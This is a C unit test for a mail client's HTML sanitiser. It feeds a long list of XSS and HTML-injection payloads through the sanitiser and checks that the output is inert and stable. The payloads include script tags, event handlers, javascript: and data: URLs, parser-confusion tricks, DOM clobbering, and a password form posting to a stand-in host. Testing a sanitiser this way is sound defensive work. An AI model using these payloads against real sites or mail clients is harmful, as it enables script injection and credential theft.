/* A collection of hostile HTML: whatever goes in, what comes out is inert. The judge is a real HTML parser
 * (tests/fuzz/html_oracle.h); the collection was gone through in a browser as well. */
#include "../base/check.h"

#include "../../fuzz/html_oracle.h"
#include "mail/html_sanitise.h"

#define ATTACK(literal)                                                                                                \
    {                                                                                                                  \
        ("" literal), sizeof(literal) - 1                                                                              \
    }

static const Text attacks[] = {
    ATTACK("<script>alert(1)</script>"),
    ATTACK("<SCRIPT SRC=//x.example/x.js></SCRIPT>"),
    ATTACK("<script/x>alert(1)</script>"),
    ATTACK("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ATTACK("<<script>alert(1)//<</script>"),
    ATTACK("<script>alert(1)"),
    ATTACK("</title><script>alert(1)</script>"),
    ATTACK("<script"
           "\014"
           "type=text/javascript>alert(1)</script>"),
    ATTACK("<svg><script>alert(1)</script></svg>"),
    ATTACK("<svg><script href=data:,alert(1) />"),
    ATTACK("<svg/onload=alert(1)>"),
    ATTACK("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ATTACK("<svg><a xlink:href=\"javascript:alert(1)\"><text y=1>x</text></a></svg>"),
    ATTACK("<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>"),
    ATTACK("<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"></use></svg>"),
    ATTACK("<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>"),
    ATTACK("<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ATTACK("<svg><desc><noscript></desc><script>alert(1)</script></noscript></svg>"),
    ATTACK("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ATTACK("<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">"),
    ATTACK("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
    ATTACK("<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">"),
    ATTACK("<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>"),
    ATTACK("<math href=\"javascript:alert(1)\">x</math>"),
    ATTACK(
        "<math><maction actiontype=\"statusline#http://x.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>"),
    ATTACK(
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">"),
    ATTACK("<form><div></form><form><mglyph><math><mtext><table><mglyph><style></math><img src onerror=alert(1)>"),
    ATTACK("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ATTACK("<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>"),
    ATTACK("<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>"),
    ATTACK("<plaintext><img src=x onerror=alert(1)>"),
    ATTACK("<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>"),
    ATTACK("<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"),
    ATTACK("<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>"),
    ATTACK("<iframe src=javascript:alert(1)></iframe>"),
    ATTACK("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ATTACK("<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>"),
    ATTACK("<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"),
    ATTACK("<object data=\"javascript:alert(1)\"></object>"),
    ATTACK("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ATTACK("<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\" allowscriptaccess=always>"),
    ATTACK("<applet code=x></applet>"),
    ATTACK("<img src=x onerror=alert(1)>"),
    ATTACK("<img/src=x/onerror=alert(1)>"),
    ATTACK("<img src=`x`onerror=alert(1)>"),
    ATTACK("<img src=\"x\"onerror=\"alert(1)\">"),
    ATTACK("<img src=x onerror"
           "\013"
           "=alert(1)>"),
    ATTACK("<img src=x "
           "\000"
           "onerror=alert(1)>"),
    ATTACK("<img src=x onerror"
           "\000"
           "=alert(1)>"),
    ATTACK("<img \"\"\"><script>alert(1)</script>\">"),
    ATTACK("<img src=javascript:alert(1)>"),
    ATTACK("<img src=\"jav\tascript:alert(1)\">"),
    ATTACK("<img src=\"jav&#x0A;ascript:alert(1)\">"),
    ATTACK("<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">"),
    ATTACK("<img src=\" &#14; javascript:alert(1)\">"),
    ATTACK("<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>"),
    ATTACK("<img src=x srcset=\"javascript:alert(1) 1x, http://x.example/2 2x\">"),
    ATTACK("<picture><source srcset=http://x.example/a><img src=http://x.example/b></picture>"),
    ATTACK("<image src=x onerror=alert(1)>"),
    ATTACK("<input type=image src=x onerror=alert(1)>"),
    ATTACK("<input autofocus onfocus=alert(1)>"),
    ATTACK("<body onload=alert(1) background=javascript:alert(1)>"),
    ATTACK("<body onscroll=alert(1)><br><br><input autofocus>"),
    ATTACK("<details open ontoggle=alert(1)>x</details>"),
    ATTACK("<video><source onerror=alert(1)></video>"),
    ATTACK("<audio src=x onerror=alert(1)></audio>"),
    ATTACK("<video poster=javascript:alert(1)></video>"),
    ATTACK("<marquee onstart=alert(1)>x</marquee>"),
    ATTACK("<select autofocus onfocus=alert(1)></select>"),
    ATTACK("<keygen autofocus onfocus=alert(1)>"),
    ATTACK("<a href=\"javascript:alert(1)\">x</a>"),
    ATTACK("<a href=\"JaVaScRiPt:alert(1)\">x</a>"),
    ATTACK("<a href=\"java&Tab;script:alert(1)\">x</a>"),
    ATTACK("<a href=\"java&NewLine;script:alert(1)\">x</a>"),
    ATTACK("<a href=\"javascript&colon;alert(1)\">x</a>"),
    ATTACK("<a href=\"&#1;javascript:alert(1)\">x</a>"),
    ATTACK("<a href=\""
           "\001"
           "\002"
           " javascript:alert(1)\">x</a>"),
    ATTACK("<a href=\"javascript"
           "\000"
           ":alert(1)\">x</a>"),
    ATTACK("<a href=vbscript:msgbox(1)>x</a>"),
    ATTACK("<a href=livescript:x>x</a>"),
    ATTACK("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"),
    ATTACK("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
    ATTACK("<a href=\"blob:http://x.example/1\">x</a>"),
    ATTACK("<a href=\"file:///etc/passwd\">x</a>"),
    ATTACK("<a href=\"filesystem:http://x.example/1\">x</a>"),
    ATTACK("<a href=\"view-source:javascript:alert(1)\">x</a>"),
    ATTACK("<a href=\"feed:javascript:alert(1)\">x</a>"),
    ATTACK("<a href=\"http:javascript:alert(1)\">x</a>"),
    ATTACK("<a href=\"//x.example\">x</a>"),
    ATTACK("<a href=\"\\\\x.example\\share\">x</a>"),
    ATTACK(
        "<a href=\"https://x.example/\" onclick=alert(1) onmouseover=alert(1) ping=\"http://x.example/p\" download target=_self>x</a>"),
    ATTACK("<a href=\"https://x.example/&quot; onclick=alert(1) x=&quot;\">x</a>"),
    ATTACK("<a href='https://x.example/\"><img src=x onerror=alert(1)>'>x</a>"),
    ATTACK("<a href=https://x.example style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</a>"),
    ATTACK("<area href=javascript:alert(1) shape=default>"),
    ATTACK("<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m>"),
    ATTACK("<div style=\"background:url(javascript:alert(1))\">x</div>"),
    ATTACK("<div style=\"background-image:url(http://x.example/track.gif)\">x</div>"),
    ATTACK("<div style=\"width:expression(alert(1))\">x</div>"),
    ATTACK("<div style=\"behavior:url(#default#time2)\">x</div>"),
    ATTACK("<div style=\"-moz-binding:url(http://x.example/x.xml#x)\">x</div>"),
    ATTACK("<div style=\"position:absolute;top:0;left:0;width:9999px;height:9999px\">Sign in again</div>"),
    ATTACK("<div style=\"background:\\75rl(http://x.example/x)\">x</div>"),
    ATTACK("<style>@import url(http://x.example/x.css);</style>"),
    ATTACK("<style>@import 'javascript:alert(1)';</style>"),
    ATTACK("<style>body{background:url(\"javascript:alert(1)\")}</style>"),
    ATTACK("<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>"),
    ATTACK("<style><!--</style><script>alert(1)</script>--></style>"),
    ATTACK("<link rel=stylesheet href=http://x.example/x.css>"),
    ATTACK("<link rel=import href=data:text/html,x>"),
    ATTACK("<link rel=prefetch href=http://x.example/p>"),
    ATTACK("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"),
    ATTACK("<meta http-equiv=refresh content=\"0;url=http://x.example/\">"),
    ATTACK("<meta http-equiv=set-cookie content=\"a=b\">"),
    ATTACK("<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ATTACK("<base href=javascript:alert(1)//><a href=x>x</a>"),
    ATTACK("<base href=http://x.example/>"),
    ATTACK("<form action=javascript:alert(1)><input type=submit></form>"),
    ATTACK("<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>"),
    ATTACK("<form action=http://x.example/login>Password: <input type=password name=p><input type=submit></form>"),
    ATTACK("<isindex action=javascript:alert(1) type=image>"),
    ATTACK("<button onclick=alert(1)>x</button>"),
    ATTACK("<form name=body><input name=firstChild></form>"),
    ATTACK("<img name=getElementById><img id=cookie name=cookie>"),
    ATTACK("<a id=defaultView name=x></a><a id=location></a>"),
    ATTACK("<form id=a><input name=parentNode><input name=attributes></form>"),
    ATTACK("<template><script>alert(1)</script></template>"),
    ATTACK("<template><img src=x onerror=alert(1)></template>"),
    ATTACK("<div><template shadowrootmode=open><script>alert(1)</script></template></div>"),
    ATTACK("<portal src=http://x.example></portal>"),
    ATTACK("<fencedframe></fencedframe>"),
    ATTACK("<dialog open onclose=alert(1)>x</dialog>"),
    ATTACK("<slot onslotchange=alert(1)></slot>"),
    ATTACK("<custom-element onclick=alert(1) is=x>x</custom-element>"),
    ATTACK("<bgsound src=javascript:alert(1)>"),
    ATTACK("<layer src=http://x.example></layer>"),
    ATTACK("<xml id=x><i><![CDATA[<img src=\"javas]]><![CDATA[cript:alert(1)\">]]></i></xml>"),
    ATTACK("<?xml version=\"1.0\"?><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script>"),
    ATTACK("<![CDATA[<script>alert(1)</script>]]>"),
    ATTACK("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ATTACK("<!--><script>alert(1)</script>-->"),
    ATTACK("<!--!><img src=x onerror=alert(1)>-->"),
    ATTACK("<!-- --!><img src=x onerror=alert(1)>"),
    ATTACK("<comment><img src=\"</comment><img src=x onerror=alert(1)>\"></comment>"),
    ATTACK("<table background=javascript:alert(1)><td background=http://x.example/x>x</td></table>"),
    ATTACK("<table><tr><td></form><form action=x><input></td></tr></table>"),
    ATTACK("<p title=\"</p><script>alert(1)</script>\">x</p>"),
    ATTACK("<img alt=\"`<script>alert(1)</script>`\" src=x>"),
    ATTACK("<b title=\"&lt;/b&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</b>"),
    ATTACK("<font color=\"red;background:url(javascript:alert(1))\" face=\"x&quot; onclick=&quot;alert(1)\">x</font>"),
    ATTACK(
        "<q cite=javascript:alert(1)>x</q><blockquote cite=javascript:alert(1)>x</blockquote><del cite=javascript:alert(1)>x</del>"),
    ATTACK("<ol start=\"1"
           "\042"
           " onclick=alert(1)\"><li value=\"javascript:1\">x</ol>"),
    ATTACK("<time datetime=\"2026-01-01\" onclick=alert(1)>x</time>"),
    ATTACK("<img data-remote-src=\"javascript:alert(1)\" data-cid='x\" onerror=\"alert(1)'>"),
    ATTACK("<img src=\"http://x.example/a.gif\" data-remote-src=\"javascript:alert(1)\">"),
    ATTACK("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">"),
    ATTACK("<img src=\"data:text/html,<script>alert(1)</script>\">"),
    ATTACK("<img src=\"data:image/png;base64,AAAA"
           "\042"
           " onerror="
           "\042"
           "alert(1)\">"),
    ATTACK("<img src=\"cid:a"
           "\042"
           " onerror="
           "\042"
           "alert(1)\">"),
    ATTACK("<div lang='x\" onclick=\"alert(1)' dir='\" onclick=alert(1) \"'>x</div>"),
    ATTACK("\357"
           "\273"
           "\277"
           "<script>alert(1)</script>"),
    ATTACK("<"
           "\000"
           "script>alert(1)</script>"),
    ATTACK("<scri"
           "\000"
           "pt>alert(1)</scri"
           "\000"
           "pt>"),
    ATTACK("\300"
           "\274"
           "script"
           "\300"
           "\276"
           "alert(1)"
           "\300"
           "\274"
           "/script"
           "\300"
           "\276"),
    ATTACK("&lt;script&gt;alert(1)&lt;/script&gt;"),
    ATTACK("<a href=\"https://x.example/&#x202e;gpj.exe\">x</a>"),
    ATTACK("<option><style></option></select><img src=x onerror=alert(1)></style></option>"),
    ATTACK("<select><template><img src=x onerror=alert(1)></template></select>"),
    ATTACK("<select><option><iframe></select><b><script>alert(1)</script>"),
    ATTACK("<svg><title><a href=\"</title><img src=x onerror=alert(1)>\"></title></svg>"),
    ATTACK("<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ATTACK("<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>"),
    ATTACK("<d<div/onmouseover=alert(1)>x"),
    ATTACK("<div/onmouseover='alert(1)'style=x>x</div>"),
    ATTACK("<p><a href=http://x.example><p><a href=javascript:alert(1)>x</a></a>"),
    ATTACK("<h1><h1><h1><table><h1><img src=x onerror=alert(1)>"),
    ATTACK("<nobr><nobr><table><nobr><script>alert(1)</script>"),
    ATTACK("<a><table><a href=javascript:alert(1)><tr><td><a href=javascript:alert(2)>x"),
    ATTACK("<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>y</div>"),
    ATTACK("<div contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x>x</div>"),
    ATTACK("<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>"),
    ATTACK("<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=alert(1)>x</b>"),
};

/* No tag of these begins anywhere, parser or not. */
static void tags_are_absent(Text html)
{
    static const char *const tags[] = {"<script", "<svg",  "<math", "<style", "<iframe",   "<form", "<input", "<object",
                                       "<embed",  "<meta", "<link", "<base",  "<template", "<!",    "<?"};
    for (size_t i = 0; i < sizeof tags / sizeof *tags; i++) {
        if (text_find_ascii_case(html, text_of(tags[i]), 0) != SIZE_MAX)
            fail_msg("%s is in %.*s", tags[i], TEXT_ARG(html));
    }
}

static void attack_comes_out_inert(Arena *arena, Text attack)
{
    Text once;
    Text twice;
    must(html_sanitise(arena, text_make_utf8(arena, attack), &once));
    html_oracle(arena, once);
    tags_are_absent(once);
    must(html_sanitise(arena, once, &twice));
    assert_text(twice, text_string(arena, once));
}

static void every_attack_comes_out_inert(void **state)
{
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        attack_comes_out_inert(*state, attacks[i]);
}

/* What one attack opens, the next may abuse. */
static void attacks_that_follow_each_other_come_out_inert(void **state)
{
    size_t count = sizeof attacks / sizeof *attacks;
    for (size_t i = 0; i < count; i++) {
        Text next = attacks[(i * 7 + 3) % count];
        attack_comes_out_inert(*state, text_format(*state, "%.*s%.*s", TEXT_ARG(attacks[i]), TEXT_ARG(next)));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        IN_ARENA(every_attack_comes_out_inert),
        IN_ARENA(attacks_that_follow_each_other_come_out_inert),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
